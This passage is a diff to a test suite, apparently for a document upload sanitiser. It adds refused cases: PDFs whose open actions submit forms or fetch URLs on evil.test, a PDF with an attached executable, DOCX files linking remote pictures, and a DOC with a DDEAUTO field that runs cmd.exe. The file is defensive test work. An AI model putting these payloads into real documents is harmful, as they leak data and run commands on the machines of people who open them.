@@ -108,8 +108,87 @@ const accepted: Case[] = [
   ),
 ];
 
+/** Text of the page the real documents are made from, where a .doc field is written over it. */
+const wordAnchor = 'Bonos verdes y finanzas climáticas para cooperativas de la región';
+
 const javascriptAction = '<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>';
 const refused: Case[] = [
+  // What main 01071c7 let through (issue 32), each built from a real file.
+  file(
+    'a PDF with an executable in a page’s file attachment annotation (no name tree, no /Type)',
+    'factura.pdf',
+    () => hostile.pdfWithAnnotationAttachment(real.pdf, hostile.executable()),
+  ),
+  file(
+    'a PDF whose open action opens a file on a network share (GoToR to \\\\host\\share)',
+    'factura.pdf',
+    pdfWith(
+      {
+        90: '<< /S /GoToR /F (\\\\\\\\evil.test\\\\share\\\\informe.pdf) /D [0 /Fit] /NewWindow true >>',
+      },
+      '/OpenAction 90 0 R',
+    ),
+  ),
+  file(
+    'a PDF whose open action submits a form',
+    'factura.pdf',
+    pdfWith(
+      { 90: '<< /S /SubmitForm /F << /FS /URL /F (https://evil.test/collect) >> /Flags 4 >>' },
+      '/OpenAction 90 0 R',
+    ),
+  ),
+  file(
+    'a PDF whose open action imports data',
+    'factura.pdf',
+    pdfWith({ 90: '<< /S /ImportData /F (datos.fdf) >>' }, '/OpenAction 90 0 R'),
+  ),
+  file(
+    'a PDF whose open action fetches an address (/URI run on opening)',
+    'factura.pdf',
+    pdfWith({ 90: '<< /S /URI /URI (https://evil.test/pixel.png) >>' }, '/OpenAction 90 0 R'),
+  ),
+  file(
+    'a PDF with an associated file (/AF)',
+    'factura.pdf',
+    pdfWith({ 90: '<< /Type /Filespec /F (datos.xml) /AFRelationship /Data >>' }, '/AF [90 0 R]'),
+  ),
+  file(
+    'a web page with a script between %PDF-1.4 and %%EOF, named .pdf',
+    'factura.pdf',
+    hostile.htmlAsPdf,
+  ),
+  file(
+    'a DOCX whose relationships are UTF-16 without a byte order mark, linking a remote picture',
+    'factura.docx',
+    docxWith(async () => {
+      const entry = await documentRelsWith(
+        hostile.relationship('rId93', 'image', 'https://evil.test/logo.png', true),
+      );
+      return [{ name: entry.name, data: hostile.utf16WithoutMark(entry.data ?? Buffer.alloc(0)) }];
+    }),
+  ),
+  file(
+    'a DOCX whose document is UTF-16 without a byte order mark, with an INCLUDEPICTURE field',
+    'factura.docx',
+    docxWith(async () => {
+      const entry = await partWith(
+        'word/document.xml',
+        '<w:sectPr',
+        fieldParagraph(String.raw`INCLUDEPICTURE "https://evil.test/logo.png" \d `),
+      );
+      return [{ name: entry.name, data: hostile.utf16WithoutMark(entry.data ?? Buffer.alloc(0)) }];
+    }),
+  ),
+  file('a DOC with a DDEAUTO field that runs cmd.exe', 'factura.doc', () =>
+    hostile.docWithField(
+      real.doc,
+      wordAnchor,
+      String.raw`DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"`,
+    ),
+  ),
+  file('a DOC with an INCLUDETEXT field fetching a web page', 'factura.doc', () =>
+    hostile.docWithField(real.doc, wordAnchor, 'INCLUDETEXT "http://evil.test/t.docx"'),
+  ),
   file('a DOC with a VBA macro project (Macros storage, AutoOpen)', 'factura.doc', () =>
     hostile.docWith(real.doc, {
       '/Macros/VBA/ThisDocument': Buffer.from(
@@ -134,14 +213,6 @@ const refused: Case[] = [
     'a DOC with an executable appended',
     'factura.doc',
     followed(() => real.doc, hostile.executable),
-  ),
-  file(
-    'a DOC with bytes appended after its last sector',
-    'factura.doc',
-    followed(
-      () => real.doc,
-      () => Buffer.alloc(3000, 0x41),
-    ),
   ),
   file('a DOC whose directory entries form a cycle', 'factura.doc', () =>
     hostile.docWithDirectoryCycle(real.doc),
